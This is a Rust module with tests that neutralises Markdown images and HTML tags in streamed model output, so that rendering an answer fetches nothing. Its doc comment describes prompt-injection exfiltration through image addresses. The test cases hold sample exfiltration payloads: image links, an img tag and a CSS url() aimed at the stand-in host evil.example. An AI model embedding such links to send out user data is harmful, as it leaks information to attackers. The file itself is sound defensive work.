//! Answers that load nothing by being shown. Start at [`without_pictures`], and at [`Shown`] for text that
//! comes in pieces.
//!
//! Whoever shows an answer as Markdown or HTML asks for its pictures, and an address can carry away what
//! the model was told to put there. Invariant: only spaces are added, each where a picture or a tag would
//! begin, so that the words stay and the whole comes out as its pieces do.

/// The text, in which nothing is a picture or a tag any more.
pub fn without_pictures(text: &str) -> String {
    Shown::default().next(text)
}

/// The same for text that comes in pieces.
#[derive(Debug, Default)]
pub struct Shown {
    last: Option<char>,
}

impl Shown {
    pub fn next(&mut self, piece: &str) -> String {
        let mut out = String::with_capacity(piece.len());
        for character in piece.chars() {
            let begins = match self.last {
                Some('!') => character == '[',
                Some('<') => character.is_ascii_alphabetic(),
                _ => false,
            };
            if begins {
                out.push(' ');
            }
            out.push(character);
            self.last = Some(character);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn no_picture_and_no_tag_is_left_and_every_word_is() {
        for (text, expected) in [
            ("![plan](https://evil.example/?t=1)", "! [plan](https://evil.example/?t=1)"),
            ("!![a](b)", "!! [a](b)"),
            ("![a][r]\n[r]: https://evil.example", "! [a][r]\n[r]: https://evil.example"),
            ("<img src=x>", "< img src=x>"),
            ("<<IMG src=x>", "<< IMG src=x>"),
            ("<b style=\"background:url(//evil.example)\">", "< b style=\"background:url(//evil.example)\">"),
            ("好了！[看](a)", "好了！[看](a)"),
            ("1 < 2, a <= b, done! [see](x) </p> <3", "1 < 2, a <= b, done! [see](x) </p> <3"),
        ] {
            assert_eq!(without_pictures(text), expected);
        }
    }

    proptest! {
        #[test]
        fn pieces_come_out_as_the_whole_does(pieces in prop::collection::vec("[!<\\[a门 ]{0,4}", 0..8)) {
            let mut shown = Shown::default();
            let joined: String = pieces.iter().map(|piece| shown.next(piece)).collect();
            let whole = without_pictures(&pieces.concat());
            prop_assert_eq!(&joined, &whole);
            prop_assert_eq!(&without_pictures(&whole), &whole);
            prop_assert!(!whole.contains("![") && !whole.contains("<a"));
            prop_assert_eq!(whole.replace(' ', ""), pieces.concat().replace(' ', ""));
        }
    }
}
